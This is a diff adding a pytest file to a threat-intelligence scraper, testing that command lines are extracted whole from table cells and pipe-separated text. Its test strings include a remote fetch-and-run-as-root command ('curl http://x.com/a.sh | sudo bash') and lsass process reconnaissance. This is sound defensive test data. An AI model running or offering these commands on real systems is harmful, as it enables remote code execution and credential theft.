@@ -1,0 +1,23 @@
+"""Command lines in tables and pipes."""
+
+import pytest
+
+from ctiscraper.enrich.kinds import Kind
+from ctiscraper.enrich.observables import find_observables
+
+
+@pytest.mark.parametrize(
+    ("text", "commands"),
+    [
+        ("a1 | Setup.exe | Win32/Agent.RUI", []),
+        ("T1059 | cmd.exe /c whoami | 2021-01-02", ["cmd.exe /c whoami"]),
+        ("x: tasklist | findstr lsass", ["tasklist | findstr lsass"]),
+        ("Get-Process | Where-Object {$_.Id}", ["Get-Process | Where-Object {$_.Id}"]),
+        ('reg query HKLM\\Run | find "x | y"', ['reg query HKLM\\Run | find "x | y"']),
+        ("curl http://x.com/a.sh | sudo bash", ["curl http://x.com/a.sh | sudo bash"]),
+    ],
+)
+def test_a_command_ends_with_its_cell_and_not_with_its_pipe(text: str, commands: list[str]) -> None:
+    assert [
+        one.value for one in find_observables(text) if one.kind is Kind.COMMAND_LINE
+    ] == commands
